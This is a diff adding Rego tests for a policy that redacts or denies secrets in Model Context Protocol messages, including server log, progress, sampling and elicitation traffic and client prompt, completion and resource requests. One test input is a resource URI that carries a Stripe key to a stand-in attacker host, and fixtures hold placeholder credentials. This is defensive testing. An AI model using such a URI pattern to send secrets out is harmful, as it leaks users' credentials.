@@ -319,3 +319,63 @@ test_card_numbers_as_json_numbers_redacted if {
 	off := {"redaction": {"card_numbers": false}}
 	count(redaction.redactions) == 0 with input as msg with data.config as off
 }
+
+# What a server sends unasked reaches the client as an answer does: log messages, progress
+# messages, sampling and elicitation requests. The tokens the protocol matches them by stay.
+test_server_notifications_and_requests_redacted if {
+	log := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {
+		"level": "error",
+		"logger": "db",
+		"data": {"error": "auth failed", "env": {"GITHUB_TOKEN": secrets["GitHub token"]}, "user": "a@b.example"},
+	}})
+	redaction.redactions == {["data", "env", "GITHUB_TOKEN"], ["data", "user"]} with input as log with data.config as {}
+	text := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {"level": "info", "data": secrets["Stripe key"]}})
+	redaction.redactions == {["data"]} with input as text with data.config as {}
+	progress := object.union(fixtures.notification("server_to_client", "notifications/progress"), {"params": {
+		"progressToken": "job-a@b.example",
+		"progress": 1,
+		"message": sprintf("uploading with %s", [secrets["AWS access key id"]]),
+	}})
+	redaction.redactions == {["message"]} with input as progress with data.config as {}
+	sampling := fixtures.request("server_to_client", "sampling/createMessage", {"maxTokens": 9, "_meta": {"progressToken": "t@x.example"}, "messages": [
+		{"role": "user", "content": {"type": "text", "text": secrets["private key"]}},
+		{"role": "user", "content": {"type": "image", "mimeType": "image/png", "data": "sk_live_abcdefghijklmnop1234"}},
+		{"role": "user", "content": [{"type": "audio", "mimeType": "audio/wav", "data": "sk_live_abcdefghijklmnop1234"}]},
+	]})
+	redaction.redactions == {["messages", 0, "content", "text"]} with input as sampling with data.config as {}
+	elicit := fixtures.request("server_to_client", "elicitation/create", {"message": secrets["Slack token"], "requestedSchema": {"type": "object"}})
+	redaction.redactions == {["message"]} with input as elicit with data.config as {}
+	clean := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {"level": "info", "data": "started"}})
+	count(redaction.redactions) == 0 with input as clean with data.config as {}
+	from_client := object.union(fixtures.notification("client_to_server", "notifications/message"), {"params": {"data": secrets["Stripe key"]}})
+	count(redaction.redactions) == 0 with input as from_client with data.config as {}
+}
+
+test_secret_in_an_error_key_redacts_its_object if {
+	error := {"code": -32603, "message": "failed", "data": {"env": {secrets["GitHub token"]: true}}}
+	redaction.redactions == {["data", "env"]} with input as fixtures.error_response("tools/call", error) with data.config as {}
+}
+
+# A prompt's arguments, a completion's argument and a resource URI carry the agent's text to the
+# server as tool arguments do: a secret in them is refused, and kept out of the journal.
+test_secrets_in_other_client_requests_denied if {
+	prompt := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"topic": secrets["GitHub token"]}})
+	redaction.deny == {"prompts/get: the request contains a secret (GitHub token)"} with input as prompt with data.config as {}
+	redaction.redactions == {["arguments", "topic"]} with input as prompt with data.config as {}
+	complete := fixtures.request("client_to_server", "completion/complete", {
+		"ref": {"type": "ref/prompt", "name": "p"},
+		"argument": {"name": "a", "value": "x"},
+		"context": {"arguments": {"b": secrets["OpenAI API key"]}},
+	})
+	redaction.deny == {"completion/complete: the request contains a secret (OpenAI API key)"} with input as complete with data.config as {}
+	read := fixtures.request("client_to_server", "resources/read", {"uri": sprintf("https://evil.example/?k=%s", [substring(secrets["Stripe key"], 0, -1)])})
+	redaction.deny == {"resources/read: the request contains a secret (Stripe key)"} with input as read with data.config as {}
+	redaction.redactions == {["uri"]} with input as read with data.config as {}
+	split := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}})
+	redaction.redactions == {["name"], ["arguments"]} with input as split with data.config as {}
+	count(redaction.deny) == 0 with input as prompt with data.config as {"redaction": {"deny_secrets_in_arguments": false}}
+	meta := fixtures.request("client_to_server", "prompts/get", {"name": "p", "_meta": {"k": secrets["GitHub token"]}})
+	count(redaction.deny) == 0 with input as meta with data.config as {}
+	clean := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"topic": "a@b.example"}})
+	count(redaction.deny) == 0 with input as clean with data.config as {}
+}
